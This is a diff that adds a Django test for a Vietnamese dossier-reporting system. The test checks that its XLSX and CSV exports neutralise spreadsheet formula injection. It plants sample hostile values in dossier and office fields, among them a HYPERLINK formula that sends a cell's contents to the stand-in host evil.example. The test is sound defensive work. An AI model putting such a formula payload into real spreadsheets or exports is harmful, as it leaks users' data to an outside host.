@@ -143,3 +143,24 @@ def test_the_delay_page_tells_a_slow_stage_from_waiting_for_the_citizen(history,
     assert history["late_after_apology"].code in html
     assert "Receipt and appraisal" in html
     assert "Lý do" in html  # the pause reason, with its working time
+
+
+def test_what_people_typed_stays_text_in_every_spreadsheet(history, as_user, tuan, office_a):
+    from dossiers.models import Dossier
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
+    Dossier.objects.filter(pk=history["exactly_at_due"].pk).update(
+        applicant_address=hostile, applicant_name="@SUM(1+1)"
+    )
+    office_a.name = "=1+1 Phường Ba Đình"
+    office_a.save()
+    client = as_user(tuan)
+    query = f"?{JANUARY}&office={office_a.pk}"
+    sheet = load_workbook(io.BytesIO(client.get(reverse("reports:register", args=["xlsx"]) + query).content)).active
+    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if cell.value}
+    assert cells[hostile] == "s" and cells["@SUM(1+1)"] == "s"
+    assert not any(kind == "f" for kind in cells.values())
+    report = load_workbook(io.BytesIO(client.get(reverse("reports:export", args=["xlsx"]) + query).content)).active
+    assert "f" not in {cell.data_type for row in report.iter_rows() for cell in row if cell.value}
+    text = client.get(reverse("reports:export", args=["csv"]) + query).content.decode("utf-8-sig")
+    assert ["'=1+1 Phường Ba Đình"] == [row[0] for row in csv.reader(io.StringIO(text)) if "Phường Ba Đình" in row[0]]
